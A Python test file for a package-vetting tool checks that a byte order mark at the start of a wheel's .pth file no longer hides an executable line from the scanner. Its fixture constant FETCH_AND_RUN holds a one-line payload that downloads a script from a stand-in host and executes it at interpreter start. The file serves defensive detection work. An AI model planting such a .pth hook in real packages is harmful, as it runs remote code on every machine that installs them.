"""Attack on vet's reading of a ``.pth`` file: a byte order mark hid its first line.

Python 3.13's ``site`` decodes a ``.pth`` file as ``utf-8-sig`` ("Accept BOM markers in .pth
files as we do in source files"), so a file that starts with a byte order mark and
``import …`` runs that line at every interpreter start. vet decoded it as plain UTF-8: the
line started with ``\\ufeff``, not ``import``, and was read as a folder; a wheel whose only
``.pth`` line fetched and ran a script was vetted ``pass``. The mark is now dropped first, as
site drops it. A ``.pth`` with a mark that only names a folder stays clean.
"""

from __future__ import annotations

from pathlib import Path

from mcpward.vet import VetOptions, run_vet
from vet_fixtures import wheel

FETCH_AND_RUN = 'import urllib.request; exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())'


def _vet(tmp_path: Path, pth: str) -> tuple[str, set[tuple[str, str]]]:
    path = tmp_path / "relay_mcp-1.0.1-py3-none-any.whl"
    path.write_bytes(
        wheel("relay_mcp", "1.0.1", {"relay_mcp/__init__.py": "X = 1\n", "relay_mcp_hook.pth": pth})
    )
    report = run_vet(VetOptions(target=str(path), cache_dir=tmp_path / "c"))
    return report.verdict, {(f.rule, f.severity.value) for f in report.findings}


def test_a_pth_line_behind_a_byte_order_mark_is_analysed(tmp_path: Path) -> None:
    verdict, findings = _vet(tmp_path, "\ufeff" + FETCH_AND_RUN + "\n")
    assert ("download-and-run", "critical") in findings, findings
    assert verdict == "block"


def test_a_folder_behind_a_byte_order_mark_passes(tmp_path: Path) -> None:
    verdict, findings = _vet(tmp_path, "\ufeffrelay_mcp_vendor\n")
    assert verdict == "pass", findings
